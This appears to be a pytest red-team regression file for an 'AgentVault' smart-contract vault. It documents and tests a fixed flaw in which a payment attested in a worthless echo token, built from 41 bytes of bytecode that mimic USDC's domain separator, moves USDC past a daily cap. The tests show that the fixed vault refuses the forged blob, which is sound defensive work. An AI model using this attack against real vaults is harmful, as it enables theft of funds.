"""Red team: an x402 payment valued in a worthless token that moves the vault's USDC.

``AgentVault.isValidSignature`` rebuilt the EIP-3009 digest with the ``DOMAIN_SEPARATOR()`` of
the token named in the signature blob (``p.token``) and checked the quorum against
``p.token.transfer(payTo, value)``. A hostile agent host (it holds the agent key) deploys a
41-byte contract ``ECHO`` whose ``DOMAIN_SEPARATOR()`` returns USDC's, gets an attestation for
``ECHO.transfer(THIEF, 5 USDC)`` (valued by the operators in ECHO, which the USDC window cap
never sees), signs USDC's ``TransferWithAuthorization`` from the vault and hands USDC the blob
naming ECHO: USDC asks the vault, the vault computes USDC's digest from ECHO's answer and says
yes. Before the fix, three such payments moved 15 USDC out under a 12 USDC/day window cap
(and any number more: none of them counts in USDC). Now the vault accepts a payment signature
only for the token that asks (or an offchain read), so the same blob is refused.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from coincurve import PrivateKey
from eth_typing import HexStr
from web3 import Web3
from web3.contract import Contract
from web3.exceptions import ContractCustomError, ContractLogicError

from agentguard import PaymentIntent, PolicyDenied
from agentguard._attestation import sign_attestation
from agentguard.chain import (
    load_artifact,
    payment_signature,
    transact,
    transfer_authorization_digest,
)

from .redteam_vault import AGENT, THIEF, VaultBench, vault_bench

AGENT_KEY = PrivateKey(bytes.fromhex(AGENT.private_key[2:]))
VAULT_USDC = 100_000_000
PER_TX = 5_000_000
PER_DAY = 12_000_000
TWA_BYTES = "transferWithAuthorization(address,address,uint256,uint256,uint256,bytes32,bytes)"


def echo_initcode(word: bytes) -> bytes:
    """A contract that answers every call with ``word`` (PUSH32 w; MSTORE; RETURN 32)."""
    runtime = b"\x7f" + word + bytes.fromhex("60005260206000f3")
    return bytes.fromhex("602980600b6000396000f3") + runtime


@dataclass
class Setup:
    bench: VaultBench
    echo: str

    @property
    def usdc(self) -> Contract:
        return self.bench.usdc


def caps_only(usdc: str) -> dict[str, Any]:
    """5 USDC (or anything) per action, 12 USDC per day."""
    return {
        "max_per_tx": {"*": str(PER_TX)},
        "window_caps": [{"asset": usdc, "window_seconds": 86400, "max_amount": str(PER_DAY)}],
    }


@pytest.fixture(scope="module")
def setup() -> Iterator[Setup]:
    with vault_bench(caps_only, usdc=VAULT_USDC) as bench:
        initcode = echo_initcode(bench.usdc.functions.DOMAIN_SEPARATOR().call())
        tx = bench.w3.eth.send_transaction({"from": THIEF, "data": HexStr("0x" + initcode.hex())})
        echo = str(bench.w3.eth.wait_for_transaction_receipt(tx)["contractAddress"])
        yield Setup(bench, echo)


def _pay(s: Setup, *, valued_in: str, amount: int = PER_TX) -> Any:
    """Attest a payment in ``valued_in``, then settle it as a USDC authorization."""
    payment = PaymentIntent(
        payer=s.bench.vault.address, scheme="exact", network="eip155:8453",
        asset=valued_in, amount=amount, pay_to=THIEF,
    )  # fmt: skip
    verified = s.bench.guard.authorize(payment, wasm_args=payment.wasm_args())
    task_id = verified.attestation.task_id
    valid_before = int(time.time()) + 300
    digest = transfer_authorization_digest(
        token=s.usdc.address, chain_id=8453, from_=s.bench.vault.address, to=THIEF, value=amount,
        valid_after=0, valid_before=valid_before, nonce=task_id,
    )  # fmt: skip
    blob = payment_signature(
        payment, verified.attestation, valid_after=0, valid_before=valid_before,
        agent_signature=sign_attestation(AGENT_KEY, digest),
    )  # fmt: skip
    settle = s.usdc.get_function_by_signature(TWA_BYTES)(
        s.bench.vault.address, THIEF, amount, 0, valid_before, task_id, blob
    )
    return transact(s.bench.w3, settle, sender=THIEF)


def _usdc(s: Setup, who: str) -> int:
    return int(s.usdc.functions.balanceOf(who).call())


def test_the_echo_contract_really_claims_usdcs_domain(setup: Setup) -> None:
    """The attack's premise: ECHO's DOMAIN_SEPARATOR() is USDC's."""
    echo = setup.bench.w3.eth.contract(
        address=Web3.to_checksum_address(setup.echo), abi=load_artifact("UsdCoin").abi
    )
    assert (
        echo.functions.DOMAIN_SEPARATOR().call() == setup.usdc.functions.DOMAIN_SEPARATOR().call()
    )


def test_a_payment_attested_in_another_token_cannot_move_usdc(setup: Setup) -> None:
    before = _usdc(setup, THIEF)
    for _ in range(3):  # 15 USDC against a 12 USDC/day window: each is valued in ECHO
        with pytest.raises((ContractCustomError, ContractLogicError)):
            _pay(setup, valued_in=setup.echo)
    assert _usdc(setup, THIEF) == before
    assert _usdc(setup, setup.bench.vault.address) == VAULT_USDC


def test_control_the_same_payments_valued_in_usdc_stop_at_the_window_cap(setup: Setup) -> None:
    """The honest path still pays, and the third payment in USDC is denied by the window."""
    before = _usdc(setup, THIEF)
    _pay(setup, valued_in=setup.usdc.address)
    _pay(setup, valued_in=setup.usdc.address)
    with pytest.raises(PolicyDenied, match="window cap"):
        _pay(setup, valued_in=setup.usdc.address)
    assert _usdc(setup, THIEF) == before + 2 * PER_TX
